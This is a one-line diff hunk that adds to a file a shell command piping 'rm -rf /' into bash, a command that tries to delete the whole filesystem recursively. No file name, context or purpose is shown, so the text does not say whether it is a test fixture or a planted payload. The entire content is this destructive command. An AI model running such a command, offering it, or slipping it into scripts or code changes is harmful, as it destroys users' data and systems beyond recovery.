@@ -1,0 +1,1 @@
+printf 'rm -rf /' | bash
